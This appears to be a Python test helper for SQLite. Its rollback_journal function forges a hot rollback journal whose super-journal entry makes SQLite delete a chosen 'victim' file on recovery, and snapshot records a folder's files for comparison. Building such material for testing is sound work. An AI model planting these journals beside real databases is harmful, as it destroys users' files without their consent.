"""Files that an attacker puts beside a journal."""

from __future__ import annotations

import os
import struct
from pathlib import Path

PAGE, SECTOR = 4096, 512
MAGIC = bytes.fromhex("d9d505f920a163d7")
LOCK_PAGE = 0x4000_0000 // PAGE + 1


def rollback_journal(journal: Path, victim: Path | None = None) -> Path:
    """Put a rollback journal beside a journal that SQLite plays back, and in which it deletes the file `victim`.

    It restores the first page as it is, and names `victim` as its super-journal.
    """
    page = journal.read_bytes()[:PAGE]
    nonce = 12345
    head = MAGIC + struct.pack(">5I", 1, nonce, journal.stat().st_size // PAGE, SECTOR, PAGE)
    checksum = (nonce + sum(page[at] for at in range(PAGE - 200, 0, -200))) & 0xFFFF_FFFF
    record = struct.pack(">I", 1) + page + struct.pack(">I", checksum)
    end = b""
    if victim is not None:
        name = os.fsencode(victim)
        end = struct.pack(">I", LOCK_PAGE) + name + struct.pack(">2I", len(name), sum(name)) + MAGIC
    beside = journal.with_name(journal.name + "-journal")
    beside.write_bytes(head.ljust(SECTOR, b"\0") + record + end)
    return beside


def snapshot(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    """Return every file of a folder: when it was written, its mode, its bytes."""
    return {
        file.name: (file.stat().st_mtime_ns, file.stat().st_mode, file.read_bytes())
        for file in sorted(folder.iterdir())
    }
